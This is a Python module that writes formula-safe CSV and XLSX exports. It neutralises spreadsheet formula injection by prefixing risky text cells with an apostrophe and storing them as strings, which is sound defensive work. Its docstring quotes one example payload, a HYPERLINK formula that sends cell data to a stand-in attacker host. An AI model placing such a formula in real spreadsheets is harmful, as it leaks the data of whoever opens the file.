"""Spreadsheet files (CSV and XLSX) that are safe to open: one writer for every export.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and in some
programs a tab, a carriage return or a line feed, or the full-width forms of those signs
that East Asian versions of Excel accept) as a formula, which can run commands or send the
sheet's data elsewhere (``=HYPERLINK("https://evil.example/?"&A1, "Click")``). Feedback,
statements and names come from the public, so every text cell we export is neutralised: it
gets a leading apostrophe and is shown as text. Numbers, dates and blanks are left alone.
In XLSX files text cells are also stored with the *string* type, so nothing is ever a
formula, whatever it starts with.

Every area writes its downloads and CLI outputs through these functions (listen explorer,
involve finance log and community make-up, access waiting lists, measure sets, co-design
Pol.is exports), so the rule lives in one place.

References
----------
OWASP, *CSV Injection* (the formula characters and the apostrophe prefix).
https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from pathlib import Path

import polars as pl

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

Rows = Iterable[Sequence[object]]


def safe_cell(value: object) -> object:
    """A value safe to put in a spreadsheet cell: text that a spreadsheet would run as a
    formula gets a leading apostrophe; anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text column neutralised as in :func:`safe_cell` (other columns,
    and the column names, checked too, are otherwise untouched)."""
    pattern = "^[" + "".join(_escape(c) for c in FORMULA_START) + "]"
    columns = []
    for name, dtype in frame.schema.items():
        column = pl.col(name)
        if dtype == pl.String:
            column = pl.when(column.str.contains(pattern)).then(pl.lit("'") + column) \
                .otherwise(column)
        columns.append(column.alias(str(safe_cell(name))))
    return frame.select(columns)


def _escape(char: str) -> str:
    return {"\t": r"\t", "\r": r"\r", "\n": r"\n", "-": r"\-", "+": r"\+"}.get(char, char)


def _text(value: object) -> object:
    """How a cell is written to CSV: blanks for None, ISO dates, safe text."""
    if value is None:
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    return safe_cell(value)


def _csv_text(header: Sequence[str], rows: Rows) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_text(h) for h in header])
    for row in rows:
        writer.writerow([_text(v) for v in row])
    return buffer.getvalue()


def csv_bytes(header: Sequence[str], rows: Rows, *, bom: bool = True) -> bytes:
    """A formula-safe CSV in UTF-8, by default with a byte-order mark so that spreadsheets
    read accents and the pound sign correctly."""
    return (("\ufeff" if bom else "") + _csv_text(header, rows)).encode("utf-8")


def frame_csv(frame: pl.DataFrame, *, bom: bool = True) -> bytes:
    """A Polars frame as formula-safe CSV (see :func:`csv_bytes`)."""
    return csv_bytes(frame.columns, frame.iter_rows(), bom=bom)


def xlsx_bytes(sheets: Mapping[str, tuple[Sequence[str], Rows]], *,
               number_formats: Mapping[int, str] | None = None,
               widths: Sequence[float] | None = None) -> bytes:
    """An XLSX workbook with one sheet per entry (``title: (header, rows)``).

    Text cells are neutralised and stored as text (never formulas); numbers stay numbers
    (``Decimal`` is written as a float); ``number_formats`` maps a 0-based column to an
    Excel number format such as ``"£#,##0.00"``; ``widths`` sets the columns' widths."""
    import openpyxl
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = openpyxl.Workbook(write_only=True)
    formats = dict(number_formats or {})
    for title, (header, rows) in sheets.items():
        sheet = book.create_sheet(str(safe_cell(title))[:31] or "Sheet")
        for column, width in enumerate(widths or [], start=1):
            sheet.column_dimensions[get_column_letter(column)].width = width
        head = []
        for name in header:
            cell = WriteOnlyCell(sheet, value=_excel_value(str(safe_cell(name))))
            cell.data_type = "s"
            cell.font = Font(bold=True)
            head.append(cell)
        sheet.append(head)
        for row in rows:
            cells = []
            for column, value in enumerate(row):
                value = _excel_value(value)
                cell = WriteOnlyCell(sheet, value=safe_cell(value))
                if isinstance(value, str):
                    cell.data_type = "s"
                elif isinstance(value, dt.date):
                    cell.number_format = "yyyy-mm-dd"
                if column in formats and not isinstance(value, str):
                    cell.number_format = formats[column]
                cells.append(cell)
            sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _excel_value(value: object) -> object:
    """What openpyxl can store: floats for decimals, naive UTC for aware times, and text
    without the control characters the XLSX format cannot hold (shown as U+FFFD)."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


def write_rows(path: str | Path, header: Sequence[str], rows: Rows, *,
               sheet: str = "Sheet1", bom: bool = False) -> Path:
    """Write a formula-safe CSV (UTF-8) or XLSX file, chosen by the file's extension."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix.lower() == ".xlsx":
        path.write_bytes(xlsx_bytes({sheet: (header, rows)}))
    else:
        path.write_bytes(csv_bytes(header, rows, bom=bom))
    return path


def write_frame(frame: pl.DataFrame, path: str | Path, *, sheet: str = "Sheet1") -> Path:
    """Write a Polars frame as a formula-safe CSV (Polars' own number formatting) or XLSX."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix.lower() == ".xlsx":
        return write_rows(path, frame.columns, frame.iter_rows(), sheet=sheet)
    safe_frame(frame).write_csv(path)
    return path
